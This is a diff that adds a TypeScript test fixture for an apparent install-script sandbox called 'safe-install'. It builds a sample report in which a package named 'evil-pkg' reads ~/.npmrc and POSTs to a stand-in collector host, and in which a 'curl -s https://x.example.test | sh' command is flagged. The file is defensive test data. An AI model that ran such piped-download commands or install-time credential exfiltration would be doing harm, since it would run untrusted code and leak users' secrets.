@@ -1,0 +1,130 @@
+import type { IsolationInfo, Report } from '../../../src/types.js'
+
+export const fullIsolation: IsolationInfo = {
+  backend: 'bwrap',
+  network: 'namespace',
+  filesystem: 'namespace',
+  pid: 'namespace',
+  tracer: 'strace',
+}
+
+export const noIsolation: IsolationInfo = {
+  backend: 'none',
+  network: 'proxy-env',
+  filesystem: 'decoy-home',
+  pid: 'process-group',
+  tracer: 'none',
+}
+
+/** A realistic `safe-install install` report: one good script, one hostile, one unreviewed, the root project. */
+export const sampleReport = (overrides: Partial<Report> = {}): Report => ({
+  schemaVersion: 1,
+  tool: { name: 'safe-install', version: '0.1.0' },
+  command: 'install',
+  mode: 'enforce',
+  startedAt: '2025-06-01T12:00:00.000Z',
+  durationMs: 8421,
+  isolation: fullIsolation,
+  packages: [
+    {
+      name: 'esbuild',
+      version: '0.25.12',
+      location: 'node_modules/esbuild',
+      approval: 'approved',
+      scripts: [{ event: 'postinstall', command: 'node install.js', outcome: 'ok', exitCode: 0, durationMs: 1234 }],
+    },
+    {
+      name: 'evil-pkg',
+      version: '1.0.3',
+      location: 'node_modules/evil-pkg',
+      approval: 'approved',
+      scripts: [{ event: 'preinstall', command: 'node steal.js', outcome: 'blocked', exitCode: null, durationMs: 310 }],
+    },
+    {
+      name: 'sharp',
+      version: '0.33.5',
+      location: 'node_modules/sharp',
+      approval: 'unreviewed',
+      scripts: [{ event: 'install', command: 'node install/check', outcome: 'skipped', exitCode: null, durationMs: 0 }],
+    },
+    {
+      name: 'my-app',
+      version: '1.0.0',
+      location: '',
+      approval: 'approved',
+      scripts: [{ event: 'prepare', command: 'tsc', outcome: 'ok', exitCode: 0, durationMs: 2400 }],
+    },
+  ],
+  egress: [
+    {
+      package: { name: 'esbuild', version: '0.25.12', location: 'node_modules/esbuild' },
+      event: 'postinstall',
+      protocol: 'https',
+      host: 'registry.example.test',
+      port: 443,
+      bytesOut: 512,
+      bytesIn: 9_000_000,
+      decision: 'allowed',
+    },
+    {
+      package: { name: 'evil-pkg', version: '1.0.3' },
+      event: 'preinstall',
+      protocol: 'http',
+      host: 'collector.example.test',
+      port: 80,
+      method: 'POST',
+      path: '/upload',
+      bytesOut: 2048,
+      bytesIn: 0,
+      decision: 'blocked',
+    },
+  ],
+  findings: [
+    {
+      rule: 'credential-read',
+      severity: 'error',
+      package: { name: 'evil-pkg', version: '1.0.3', location: 'node_modules/evil-pkg' },
+      event: 'preinstall',
+      action: 'blocked',
+      message: 'preinstall of evil-pkg@1.0.3 read ~/.npmrc; it only found a decoy.',
+      evidence: { path: '~/.npmrc', syscall: 'openat', canary: true },
+    },
+    {
+      rule: 'egress-blocked',
+      severity: 'error',
+      package: { name: 'evil-pkg', version: '1.0.3', location: 'node_modules/evil-pkg' },
+      event: 'preinstall',
+      action: 'blocked',
+      message: 'preinstall of evil-pkg@1.0.3 tried to POST to collector.example.test:80, which the policy does not allow.',
+      evidence: { host: 'collector.example.test', port: 80, request: { method: 'POST', path: '/upload' } },
+    },
+    {
+      rule: 'unreviewed-script',
+      severity: 'warning',
+      package: { name: 'sharp', version: '0.33.5', location: 'node_modules/sharp' },
+      event: 'install',
+      action: 'blocked',
+      message: 'install of sharp@0.33.5 was not run: it has no allowScripts entry.',
+      evidence: { command: 'node install/check', fix: 'npm approve-scripts sharp' },
+    },
+    {
+      rule: 'static-curl-pipe-shell',
+      severity: 'warning',
+      package: { name: 'my-app', version: '1.0.0', location: '' },
+      event: 'prepare',
+      action: 'reported',
+      message: 'The prepare script pipes a download into a shell.',
+      evidence: { match: 'curl -s https://x.example.test | sh' },
+    },
+    {
+      rule: 'install-script',
+      severity: 'note',
+      package: { name: 'esbuild', version: '0.25.12', location: 'node_modules/esbuild' },
+      action: 'reported',
+      message: 'esbuild@0.25.12 has a postinstall script.',
+      evidence: {},
+    },
+  ],
+  summary: { packages: 42, scriptsRun: 2, findings: { error: 2, warning: 2, note: 1 } },
+  ...overrides,
+})
